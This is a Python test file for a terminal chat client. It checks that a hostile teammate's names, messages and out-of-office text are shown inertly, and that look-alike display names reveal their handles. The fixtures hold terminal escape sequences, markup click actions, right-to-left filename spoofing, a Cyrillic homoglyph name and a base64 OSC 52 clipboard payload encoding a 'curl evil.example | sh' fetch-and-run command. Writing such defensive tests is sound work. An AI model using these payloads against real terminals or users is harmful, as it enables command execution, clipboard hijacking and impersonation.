"""A hostile teammate, through a real server: nothing they write reaches the terminal as
control bytes, nothing is read as markup, the client keeps running, and nobody passes for
someone else. The bytes Textual would write to the terminal are captured and read."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import update
from textual.pilot import Pilot

from huddle_tui.app import HuddleApp
from huddle_tui.screens.calls import CallsScreen
from huddle_tui.screens.ooo import OooScreen
from server.store import schema
from tests.huddle_tui.terminal import capture
from tests.huddle_tui.test_app import SIZE, api, client_for, open_chat, ready, rows, shown, until
from tests.support import LiveServer
from tests.support.hostile import CORPUS, EVERYTHING, HOSTILE_NAME, LONG_LINE


def stored_before_the_rules(server: LiveServer, table: Any, where: Any, **values: Any) -> None:
    """Write a row as an older server (or a hostile one) could have: past today's name rules."""

    def run(tx: Any) -> None:
        tx.conn.execute(update(table).where(where).values(**values))

    server.call(server.domain.store.write(run))


def toasts(app: HuddleApp) -> list[str]:
    return [str(t.render()) for t in app.screen.query("Toast")]


async def press_until(pilot: Pilot[Any], key: str, cond: Callable[[], Any], what: str) -> None:
    await pilot.press(key)
    await until(pilot, cond, what=what)


async def test_a_hostile_teammate_everywhere_the_client_shows_their_text(
    make_server: Callable[..., LiveServer], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    server = make_server(ring_timeout=1, away_after=1)
    maya, alex_http = api(server, "maya.chen"), api(server, "alex.kim")
    users, ooo, teams, conversations = schema.users, schema.ooo_entries, schema.teams, schema.conversations
    # Maya's OOO message: markup through the API (allowed: it is just text), control bytes as
    # an older server stored them. Alex's own entry too, for the OOO form.
    made = maya.post("/presence/create", json={"isActive": True, "message": "[@click=app.quit]back [/] soon"})
    assert made.status_code == 201
    hostile_ooo = "[@click=app.screenshot('x.sh','/tmp')]back " + EVERYTHING[:230]
    stored_before_the_rules(server, ooo, ooo.c.pk == made.json()["id"], message=hostile_ooo)
    mine = alex_http.post("/presence/create", json={"isActive": False, "message": "mine"}).json()["id"]
    stored_before_the_rules(server, ooo, ooo.c.pk == mine, message="[b]x " + CORPUS["osc 52 clipboard"])
    stored_before_the_rules(server, users, users.c.handle == "maya.chen", display_name=HOSTILE_NAME)
    stored_before_the_rules(server, teams, teams.c.name == "infrastructure", name="infra\x1b]0;PWNED-TEAM\x07[b]")
    stored_before_the_rules(server, conversations, conversations.c.kind == "channel", name="gen\x9d2;PWNED\x9c[/]")
    general = alex_http.get("/api/boot").json()["channels"][0]["id"]
    alex_http.post("/api/v2/messages", json={"to": "maya.chen", "body": "are you ok?"})  # never read: the stale hint

    app = client_for(server, "alex.kim", tmp_path, notify="osc", stale_hours=0)
    with capture(monkeypatch) as terminal:
        async with app.run_test(size=SIZE, notifications=True) as pilot:
            await ready(pilot, app)
            await open_chat(pilot, app, "jin.park")  # another chat is open: arrivals toast
            app.app_focus = False  # and the terminal is not focused: desktop notifications too
            for body in [*CORPUS.values(), EVERYTHING, LONG_LINE]:
                assert maya.post("/api/v2/messages", json={"to": "alex.kim", "body": body}).status_code == 200
            assert maya.post(f"/api/channels/{general}", json={"body": "@alex.kim " + EVERYTHING}).status_code == 202
            await until(pilot, lambda: len(app.alerts) >= len(CORPUS) + 3, within=20, what="every arrival alerted")
            await until(pilot, lambda: terminal.notifications(), what="a desktop notification (one for the burst)")

            # A call from the hostile name: the incoming-call banner, then a missed call.
            assert maya.post("/api/v2/calls", json={"to": "alex.kim", "type": "audio"}).status_code == 200
            await until(pilot, lambda: app.main.call_banner.display, what="incoming call shown")
            title = str(app.main.call_banner.render())
            await until(pilot, lambda: not app.main.call_banner.display, within=15, what="it rang out")
            await until(pilot, lambda: any(kind == "missed_call" for kind, _ in app.alerts), what="missed call")

            # The chat with them: message rows, header, OOO banner, stale hint, the call line.
            await open_chat(pilot, app, "maya.chen")
            await until(pilot, lambda: len(app.main.conversation.row_texts()) > len(CORPUS), what="rows drawn")
            await until(pilot, lambda: app.main.conversation.banner.display, what="OOO banner")
            await until(pilot, lambda: app.main.conversation.hint.display, within=15, what="stale hint")
            log, header = app.main.conversation.row_texts(), shown(app, "#chat-header")
            banner, hint = shown(app, "#ooo-banner"), shown(app, "#stale-hint")
            # Clicking where the OOO message says [@click=…] runs nothing.
            await pilot.click("#ooo-banner", offset=(4, 0))
            await pilot.click("#ooo-banner", offset=(20, 0))

            await open_chat(pilot, app, f"#{general}")
            await until(pilot, lambda: any("PWNED-0" in r for r in app.main.conversation.row_texts()), what="channel")
            channel_log = app.main.conversation.row_texts()

            await press_until(pilot, "ctrl+l", lambda: isinstance(app.screen, CallsScreen), what="calls list")
            calls = [str(o.prompt) for o in app.screen.query_one("#calls-list").options]  # type: ignore[attr-defined]
            await press_until(pilot, "escape", lambda: not isinstance(app.screen, CallsScreen), what="closed")

            await press_until(pilot, "ctrl+o", lambda: isinstance(app.screen, OooScreen), what="OOO form")
            form = app.screen
            listing: Any = form.query_one("#ooo-list")
            await until(pilot, lambda: listing.option_count and listing.get_option_at_index(0).id, what="entries")
            listing.focus()
            listing.highlighted = 0
            await pilot.press("enter")
            await until(pilot, lambda: form.query_one("#message").value, what="entry in the form")  # type: ignore[attr-defined]
            ooo_form = [str(listing.get_option_at_index(0).prompt), form.query_one("#message").value]  # type: ignore[attr-defined]
            await press_until(pilot, "escape", lambda: not isinstance(app.screen, OooScreen), what="form closed")
            contact_rows, said = rows(app), toasts(app)
            assert app.is_running

    # Nothing that reached the terminal was a control sequence from the corpus.
    assert terminal.problems() == []
    output = terminal.output
    for marker in ("PWNED", PASTE_MARK, "evil.example"):
        for sequence in ("\x1b]", "\x9d"):
            assert f"{sequence}{marker}" not in output
    # What each place showed: their text, visibly, never as markup and never as bytes.
    name = "Maya␛]2;PWNED-NAME␇ [/] [@click=app.quit]Chen ⟨RLO⟩nehC␤�2J"  # no zero-width space, no line break
    assert app.session.state.name_of("maya.chen") == name
    assert title == f"☎ {name} is calling — ctrl+k answer · ctrl+r decline"
    assert any("␛]52;c;" in line for line in log)
    assert any("[@click=app.screenshot('x.sh','/tmp')]click me" in line for line in log)
    assert any("⟨RLO⟩gnp.exe⟨PDF⟩" in line for line in log)
    assert any("64,000" in line or "x" * 200 in line for line in log)
    assert any("missed" in line for line in log)  # the call line
    assert header.startswith(name)
    assert "[@click=app.screenshot('x.sh','/tmp')]back before␛after" in banner
    assert hint.startswith("⚠ Maya␛]2;PWNE hasn't been active")  # a first name is 12 characters at most
    assert any("␛]0;PWNED-0␇" in line for line in channel_log)
    assert any("Maya␛" in line for line in calls)
    assert ooo_form[0].endswith("[b]x ␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=␇")
    assert ooo_form[1] == "[b]x ␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=␇"
    team_row = str(app.main.contacts.get_option("team:infra\x1b]0;PWNED-TEAM\x07[b]").prompt)
    assert team_row == "INFRA␛]0;PWNED-TEAM␇[B]"
    assert "gen�2;PWNED�[/]" in contact_rows[general]
    assert contact_rows["maya.chen"][1:].startswith(" Maya␛]2;PWNE… ✈ OOO")
    assert said  # toasts were up, and drawn through the same checks
    assert not (Path("/tmp") / "x.sh").exists()
    notified = terminal.notifications()
    assert ("Huddle", "Maya␛]2,PWNED-NAME␇ [/] [@click=app.quit]Chen ⟨RLO⟩nehC␤�2J: before␛after") in notified


PASTE_MARK = "]52;c;"


async def test_names_that_look_alike_show_their_handles(server: LiveServer, tmp_path: Path) -> None:
    sam, hr = api(server, "sam.ortiz"), api(server, "hr.admin")
    assert sam.patch("/api/v2/users/sam.ortiz", json={"display_name": "Jin Park"}).status_code == 200
    assert hr.patch("/api/v2/users/hr.admin", json={"display_name": "M\u0430ya Chen (maya.chen)"}).status_code == 200
    app = client_for(server, "alex.kim", tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        await ready(pilot, app)
        table = rows(app)
        assert "@sam.ortiz" in table["sam.ortiz"]
        assert "@jin.park" in table["jin.park"]
        assert "@hr.admin" in table["hr.admin"]  # a Cyrillic а, and Maya's handle in the name
        assert "@maya.chen" in table["maya.chen"]
        await open_chat(pilot, app, "sam.ortiz")
        assert "Jin Park @sam.ortiz" in shown(app, "#chat-header")
        # Sam takes their own name back: nobody looks like Jin any more, live.
        assert sam.patch("/api/v2/users/sam.ortiz", json={"display_name": "Sam Ortiz"}).status_code == 200
        await until(pilot, lambda: "@" not in rows(app)["jin.park"], what="jin's row plain again")
        assert "@" not in rows(app)["sam.ortiz"]
        assert "@sam.ortiz" not in shown(app, "#chat-header")
        assert "@maya.chen" in rows(app)["maya.chen"]  # still looks like hr.admin
